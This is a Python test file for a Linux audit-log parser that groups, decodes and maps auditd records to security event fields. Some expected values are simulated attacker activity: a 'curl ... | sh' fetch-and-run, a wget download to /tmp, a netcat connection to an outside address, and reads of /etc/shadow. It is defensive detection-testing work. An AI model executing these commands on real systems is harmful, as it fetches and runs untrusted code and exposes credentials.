"""Tests of the Linux audit log parser (record grouping, decoding, ECS mapping)."""

from __future__ import annotations

import json
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, datetime, tzinfo
from pathlib import Path
from zoneinfo import ZoneInfo

from hypothesis import given, settings
from hypothesis import strategies as st

from garrison.events import schema
from garrison.events.model import Event
from garrison.normalize.auditd import MAX_OPEN, AuditdParser
from garrison.normalize.auditd_records import sockaddr
from garrison.normalize.base import Line, ParseContext

DATA = Path(__file__).parent.parent / "data" / "auditd"
NOW = datetime(2026, 11, 23, tzinfo=UTC)
T = 1795255262  # 2026-11-21 10:01:02 UTC


def ctx(tz: tzinfo = UTC) -> ParseContext:
    return ParseContext(stream="t", now=NOW, tz=tz, year=2026)


def parse(lines: list[str], context: ParseContext | None = None) -> list[Event]:
    return list(
        AuditdParser().parse(
            [Line(text, i * 1000) for i, text in enumerate(lines)], context or ctx()
        )
    )


def read(name: str) -> list[str]:
    # Split on "\n" only: enriched records contain \x1d, which str.splitlines() breaks on.
    return (DATA / name).read_text(encoding="utf-8").rstrip("\n").split("\n")


def by_serial(events: list[Event]) -> dict[int, Event]:
    return {e.fields["auditd.sequence"]: e for e in events if not e.unparsed}


def assert_storable(event: Event) -> None:
    for key, value in event.fields.items():
        values = value if isinstance(value, list) else [value]
        for item in values:
            assert item is None or isinstance(item, str | int | float | bool), key
            assert "\x00" not in str(item), key
    assert "\x00" not in event.original
    json.dumps(event.to_dict())


def assert_no_record_lost(lines: list[str], events: list[Event]) -> None:
    """Every record line is in exactly one event's original (separators excepted)."""
    expected = Counter(
        line.replace("\x00", "\ufffd")
        for line in lines
        if line.strip() and not line.startswith(("----", "time->"))
    )
    seen = Counter(part for e in events for part in e.original.split("\n"))
    assert seen == expected


def test_sample_groups_and_no_record_lost() -> None:
    lines = read("audit.log")
    events = parse(lines)
    assert_no_record_lost(lines, events)
    for event in events:
        assert_storable(event)
    assert len(events) == 22  # 21 record groups + 1 line that is not a record
    assert sum(e.unparsed for e in events) == 1
    assert all(e.dataset == "linux.auditd" for e in events)


def test_execve_group_exact_ecs_fields() -> None:
    event = by_serial(parse(read("audit.log")))[4567]
    assert event.timestamp == datetime(2026, 11, 21, 10, 1, 2, 123000, tzinfo=UTC)
    assert event.original.count("\n") == 6  # 7 records
    f = event.fields
    expected = {
        "auditd.record_types": ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE", "EOE"],
        "auditd.syscall_name": "execve",
        schema.CATEGORY: "process",
        schema.TYPE: ["start"],
        schema.ACTION: "execve",
        schema.OUTCOME: "success",
        schema.USER_ID: "1000",
        "user.audit.id": "1000",
        "user.effective.id": "1000",
        "group.id": "1000",
        schema.PROCESS_PID: 2305,
        schema.PROCESS_PARENT_PID: 2210,
        schema.PROCESS_EXECUTABLE: "/usr/bin/cat",
        schema.PROCESS_NAME: "cat",
        "process.title": "cat /etc/passwd",
        schema.PROCESS_ARGS: ["cat", "/etc/passwd"],
        schema.PROCESS_COMMAND_LINE: "cat /etc/passwd",
        schema.PROCESS_WORKING_DIRECTORY: "/home/alice",
        "auditd.key": "exec_watch",
        schema.TAGS: ["exec_watch"],
        "auditd.syscall.syscall": "59",
        "auditd.syscall.comm": "cat",
        "auditd.execve.argc": "2",
        "auditd.execve.a1": "/etc/passwd",
        "auditd.cwd.cwd": "/home/alice",
        "auditd.path.name": ["/usr/bin/cat", "/lib64/ld-linux-x86-64.so.2"],
        "auditd.path.item": ["0", "1"],
        "auditd.proctitle.proctitle": "cat /etc/passwd",
    }
    assert {k: f.get(k) for k in expected} == expected
    assert schema.FILE_PATH not in f  # the executable is process.executable


def test_interleaved_serials_are_grouped_apart() -> None:
    events = by_serial(parse(read("audit.log")))
    bash, ident = events[4568], events[4569]
    assert bash.fields["auditd.record_types"] == [
        "SYSCALL",
        "EXECVE",
        "CWD",
        "PATH",
        "PROCTITLE",
        "EOE",
    ]
    assert ident.fields["auditd.record_types"] == ["SYSCALL", "EXECVE", "CWD", "PROCTITLE", "EOE"]
    assert all(":4568)" in line for line in bash.original.split("\n"))
    assert all(":4569)" in line for line in ident.original.split("\n"))
    # Hex-encoded argument (it contains spaces) decoded and joined.
    cmd = "curl -s http://198.51.100.7/x.sh | sh"
    assert bash.fields[schema.PROCESS_ARGS] == ["bash", "-c", cmd]
    assert bash.fields[schema.PROCESS_COMMAND_LINE] == f"bash -c {cmd}"
    assert bash.fields["auditd.proctitle.proctitle"] == f"bash -c {cmd}"
    assert bash.fields[schema.PROCESS_WORKING_DIRECTORY] == "/var/www/html"
    assert ident.fields[schema.PROCESS_WORKING_DIRECTORY] == "/var/www/my site"  # hex cwd
    assert ident.fields[schema.PROCESS_PARENT_PID] == 2311
    assert "auditd.key" not in ident.fields  # key=(null)


def test_ssh_failures_are_authentication_events() -> None:
    events = by_serial(parse(read("audit.log")))
    auth = events[4601].fields
    expected = {
        schema.CATEGORY: "authentication",
        schema.TYPE: ["info"],
        schema.ACTION: "user_auth",
        schema.OUTCOME: "failure",
        schema.USER_NAME: "root",
        schema.SOURCE_IP: "203.0.113.45",
        schema.PROCESS_EXECUTABLE: "/usr/sbin/sshd",
        schema.PROCESS_PID: 3011,
        "auditd.user_auth.op": "PAM:authentication",
        "auditd.user_auth.grantors": "?",
        "auditd.user_auth.terminal": "ssh",
        "auditd.user_auth.uid": "0",
    }
    assert {k: auth.get(k) for k in expected} == expected
    assert schema.USER_ID not in auth  # uid=0 is sshd's, not the account's
    assert "user.audit.id" not in auth  # auid unset
    login = events[4602].fields
    assert login[schema.ACTION] == "user_login"
    assert login[schema.TYPE] == ["start"]
    assert login[schema.OUTCOME] == "failure"
    assert events[4603].fields[schema.USER_NAME] == "admin user"  # acct hex-encoded


def test_successful_login_with_enriched_names() -> None:
    events = by_serial(parse(read("audit.log")))
    login = events[4615].fields
    assert login[schema.OUTCOME] == "success"
    assert login[schema.USER_ID] == "1000"
    assert login[schema.USER_NAME] == "alice"  # ID="alice" after the \x1d separator
    assert login["user.audit.name"] == "alice"
    assert login[schema.SOURCE_IP] == "198.51.100.23"
    assert login["auditd.user_login.UID"] == "root"
    start = events[4616].fields
    assert start[schema.ACTION] == "user_start"
    assert start[schema.USER_NAME] == "alice"
    assert events[4611].fields[schema.ACTION] == "user_acct"
    assert events[4612].fields[schema.ACTION] == "cred_acq"


def test_account_management_is_iam() -> None:
    events = by_serial(parse(read("audit.log")))
    group = events[4650].fields
    assert group[schema.CATEGORY] == "iam"
    assert group[schema.TYPE] == ["group", "creation"]
    assert group[schema.GROUP_NAME] == "bob"
    user = events[4651].fields
    assert user[schema.TYPE] == ["user", "creation"]
    assert user[schema.ACTION] == "add_user"
    assert user[schema.USER_TARGET_NAME] == "bob"
    assert user[schema.USER_NAME] == "root"
    assert user["user.audit.name"] == "alice"
    assert user[schema.OUTCOME] == "success"
    assert events[4660].fields[schema.TYPE] == ["user", "change"]
    assert events[4660].fields[schema.USER_TARGET_NAME] == "bob"
    assert events[4700].fields[schema.TYPE] == ["user", "deletion"]


def test_sudo_command_and_service_start() -> None:
    events = by_serial(parse(read("audit.log")))
    sudo = events[4665].fields
    assert sudo[schema.CATEGORY] == "process"
    assert sudo[schema.PROCESS_COMMAND_LINE] == "cat /etc/shadow"  # cmd= hex
    assert sudo[schema.PROCESS_WORKING_DIRECTORY] == "/home/alice"
    assert sudo[schema.USER_NAME] == "alice"
    service = events[4670].fields
    assert service[schema.HOST_NAME] == "web01"
    assert service["service.name"] == "nginx"
    assert service[schema.ACTION] == "service_start"
    assert "user.audit.name" not in service  # AUID="unset"


def test_enriched_connect_with_sockaddr() -> None:
    f = by_serial(parse(read("audit.log")))[4680].fields
    expected = {
        schema.CATEGORY: "network",
        schema.TYPE: ["connection", "start"],
        schema.ACTION: "syscall",
        schema.OUTCOME: "failure",
        schema.HOST_NAME: "web01",
        "auditd.syscall_name": "connect",
        schema.DESTINATION_IP: "198.51.100.7",
        schema.DESTINATION_PORT: 4433,
        "auditd.sockaddr.family": "inet",
        schema.USER_NAME: "www-data",
        "user.audit.name": "alice",
        schema.USER_EFFECTIVE_NAME: "www-data",
        schema.GROUP_NAME: "www-data",
        schema.PROCESS_COMMAND_LINE: "nc 198.51.100.7 4433",
        "auditd.syscall.SYSCALL": "connect",
    }
    assert {k: f.get(k) for k in expected} == expected


def test_config_change_avc_and_failed_exec() -> None:
    events = by_serial(parse(read("audit.log")))
    conf = events[4690].fields
    assert conf[schema.ACTION] == "config_change"
    assert conf[schema.CATEGORY] == "configuration"
    assert conf[schema.OUTCOME] == "success"  # SYSCALL success=yes
    assert conf["auditd.key"] == "exec_watch"  # from CONFIG_CHANGE: the SYSCALL's is (null)
    assert conf[schema.PROCESS_NAME] == "auditctl"
    avc = events[4695].fields
    expected = {
        schema.ACTION: "avc",
        schema.CATEGORY: "intrusion_detection",
        schema.TYPE: ["denied"],
        schema.OUTCOME: "failure",
        "auditd.avc.seresult": "denied",
        "auditd.avc.seperms": "read",
        "auditd.avc.tclass": "file",
        schema.FILE_PATH: "/etc/shadow",
        schema.PROCESS_NAME: "httpd",
        "auditd.syscall_name": "openat",
    }
    assert {k: avc.get(k) for k in expected} == expected
    failed = events[4698].fields
    assert failed[schema.CATEGORY] == "process"
    assert failed[schema.TYPE] == ["start"]
    assert failed[schema.ACTION] == "syscall"
    assert failed[schema.OUTCOME] == "failure"
    assert failed["auditd.path.name"] == ["/root/secret.sh"]


def test_line_without_header_is_unparsed() -> None:
    (event,) = (e for e in parse(read("audit.log")) if e.unparsed)
    assert event.original == "this is not an audit record"
    assert "msg=audit(...)" in event.fields[schema.ERROR_MESSAGE]


def test_ausearch_interpreted_output() -> None:
    lines = read("ausearch.txt")
    events = parse(lines, ctx(ZoneInfo("Asia/Shanghai")))
    assert_no_record_lost(lines, events)
    assert len(events) == 3
    wget, auth, passwd = events
    assert wget.timestamp == datetime(2026, 11, 21, 10, 5, 10, 331000, tzinfo=UTC)
    f = wget.fields
    assert f[schema.ACTION] == "execve"
    assert f[schema.PROCESS_ARGS] == ["wget", "http://198.51.100.7/x.sh", "-O", "/tmp/x.sh"]
    assert f["process.title"] == "wget http://198.51.100.7/x.sh -O /tmp/x.sh"
    assert f[schema.USER_NAME] == "alice"  # uid=alice (interpreted)
    assert schema.USER_ID not in f
    assert f["auditd.syscall_name"] == "execve"
    assert f["auditd.path.name"] == ["/lib64/ld-linux-x86-64.so.2", "/usr/bin/wget"]
    assert auth.fields[schema.USER_NAME] == "oracle"
    assert auth.fields[schema.OUTCOME] == "failure"
    assert "user.audit.id" not in auth.fields and "user.audit.name" not in auth.fields
    assert passwd.timestamp == datetime(2026, 11, 21, 18, 7, tzinfo=UTC)  # epoch: zone-free
    assert passwd.fields["auditd.user_chauthtok.op"] == "change password"
    assert passwd.fields["user.target.id"] == "1002"


def test_split_execve_argument_joined_before_decoding() -> None:
    arg = "é" * 5000 + " tail"  # multi-byte characters cut across the pieces
    hexed = arg.encode().hex().upper()
    # The kernel splits on byte boundaries, here between the two bytes of an "é".
    pieces = [hexed[:7502], hexed[7502:]]
    assert pieces[0].endswith("C3") and pieces[1].startswith("A9")
    m = f"msg=audit({T}.000:900):"
    execve = f'type=EXECVE {m} argc=3 a0="python3" a1_len={len(arg.encode())} ' + " ".join(
        f"a1[{i}]={p}" for i, p in enumerate(pieces)
    )
    events = parse([execve + ' a2="-v"', f"type=EOE {m} "])
    (event,) = events
    assert event.fields[schema.PROCESS_ARGS] == ["python3", arg, "-v"]
    assert event.fields["auditd.execve.a1"] == arg
    assert "auditd.execve.a1[0]" not in event.fields
    assert event.fields["auditd.execve.a1_len"] == str(len(arg.encode()))


def test_groups_without_eoe_expire_when_too_many_are_open() -> None:
    consumed = 0

    def lines() -> Iterator[Line]:
        nonlocal consumed
        for i in range(MAX_OPEN + 5):
            consumed += 1
            yield Line(f"type=SYSCALL msg=audit({T}.000:{1000 + i}): arch=c000003e syscall=2", i)

    stream = AuditdParser().parse(lines(), ctx())
    first = next(stream)
    assert consumed == MAX_OPEN + 1  # emitted as soon as MAX_OPEN younger groups exist
    assert first.fields["auditd.sequence"] == 1000
    rest = list(stream)
    assert [e.fields["auditd.sequence"] for e in [first, *rest]] == list(
        range(1000, 1000 + MAX_OPEN + 5)
    )


def test_old_group_expires_on_a_much_younger_record() -> None:
    a = f'type=SYSCALL msg=audit({T}.000:1): arch=c000003e syscall=2 success=yes comm="a"'
    b = f'type=SYSCALL msg=audit({T + 60}.000:2): arch=c000003e syscall=2 success=yes comm="b"'
    late = f'type=PATH msg=audit({T}.000:1): item=0 name="/late"'
    events = parse([a, b, late])
    assert_no_record_lost([a, b, late], events)
    assert [e.fields["auditd.sequence"] for e in events] == [1, 2, 1]
    assert events[2].fields["auditd.record_types"] == ["PATH"]  # not lost, its own event


def test_node_prefix_distinguishes_groups() -> None:
    m = f"msg=audit({T}.000:5):"
    lines = [
        f'node=a type=SYSCALL {m} syscall=2 success=yes comm="x"',
        f'node=b type=SYSCALL {m} syscall=2 success=no comm="y"',
        f"node=a type=EOE {m} ",
        f"node=b type=EOE {m} ",
    ]
    events = parse(lines)
    assert [(e.fields[schema.HOST_NAME], e.fields[schema.OUTCOME]) for e in events] == [
        ("a", "success"),
        ("b", "failure"),
    ]


def test_kernel_message_copied_from_dmesg() -> None:
    line = (
        f'[  812.345678] audit: type=1400 audit({T}.500:310): apparmor="DENIED" '
        'operation="open" profile="/usr/sbin/cupsd" name="/etc/shadow" pid=1234 comm="cupsd" '
        'requested_mask="r" denied_mask="r" fsuid=0 ouid=0'
    )
    (event,) = parse([line])
    f = event.fields
    assert f["auditd.record_types"] == ["AVC"]
    assert f[schema.ACTION] == "avc"
    assert f[schema.TYPE] == ["denied"]
    assert f[schema.OUTCOME] == "failure"
    assert f[schema.PROCESS_PID] == 1234
    assert f["auditd.avc.profile"] == "/usr/sbin/cupsd"
    assert event.timestamp == datetime(2026, 11, 21, 10, 1, 2, 500000, tzinfo=UTC)


def test_several_rule_keys() -> None:
    key = "6B657931016B657932"  # "key1\x01key2"
    m = f"msg=audit({T}.000:7):"
    (event,) = parse([f"type=SYSCALL {m} syscall=2 success=yes key={key}", f"type=EOE {m}"])
    assert event.fields[schema.TAGS] == ["key1", "key2"]
    assert event.fields["auditd.key"] == "key1"


def test_bad_time_keeps_event_with_tag() -> None:
    (event,) = parse(["type=USER_LOGIN msg=audit(99/99/9999 99:99:99.000:8) : res=success"])
    assert not event.unparsed
    assert event.fields[schema.TAGS] == ["timestamp_unparsed"]
    assert event.timestamp == NOW


def test_sockaddr_decoding() -> None:
    v6 = "0A00" + "01BB" + "00000000" + "20010DB8000000000000000000000001" + "00000000"
    assert sockaddr(v6) == {"family": "inet6", "ip": "2001:db8::1", "port": 443}
    unix = "0100" + b"/run/x.sock".hex().upper() + "00"
    assert sockaddr(unix) == {"family": "local", "path": "/run/x.sock"}
    assert sockaddr("zz") == {}


def test_sniff_scores() -> None:
    parser = AuditdParser()
    assert parser.sniff(read("audit.log")) > 0.95
    assert parser.sniff(read("ausearch.txt")) == 1.0
    access = (DATA.parent / "access" / "nginx_access.log").read_text(encoding="utf-8")
    assert parser.sniff(access.splitlines()) == 0.0


VALID = read("audit.log") + read("ausearch.txt")


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_random_text_never_raises_and_never_drops(text: str) -> None:
    lines = text.split("\n")
    events = parse(lines)
    assert_no_record_lost(lines, events)
    for event in events:
        assert_storable(event)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300))
def test_random_bytes_never_raise(data: bytes) -> None:
    lines = data.decode("utf-8", errors="replace").split("\n")
    assert_no_record_lost(lines, parse(lines))


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.tuples(st.sampled_from(VALID), st.integers(0, 400), st.text(max_size=10)),
        min_size=1,
        max_size=12,
    )
)
def test_mutated_records_never_raise_and_never_drop(
    edits: list[tuple[str, int, str]],
) -> None:
    lines = [(line[:at] + junk + line[at:]).replace("\n", " ") for line, at, junk in edits]
    events = parse(lines)
    assert_no_record_lost(lines, events)
    for event in events:
        assert_storable(event)


def test_pending_offset_points_at_the_oldest_open_group() -> None:
    from garrison.normalize.auditd import AuditdParser

    parser = AuditdParser()
    ctx = ParseContext(stream="t", now=datetime(2026, 11, 23, tzinfo=UTC))
    records = [
        'type=SYSCALL msg=audit(1700000000.100:10): arch=c000003e syscall=59 success=yes exit=0 comm="ls"',
        'type=EXECVE msg=audit(1700000000.100:10): argc=1 a0="ls"',
        'type=SYSCALL msg=audit(1700000000.200:11): arch=c000003e syscall=59 success=yes exit=0 comm="id"',
        "type=EOE msg=audit(1700000000.100:10): ",
    ]
    lines = [Line(text, i * 100) for i, text in enumerate(records)]
    events = parser.parse(iter(lines), ctx)
    assert parser.pending_offset() is None
    first = next(events)  # group 10 closes at its EOE; group 11 is still open
    assert first.get("auditd.sequence") == 10
    assert parser.pending_offset() == 200
    rest = list(events)
    assert [e.get("auditd.sequence") for e in rest] == [11]
    assert parser.pending_offset() is None
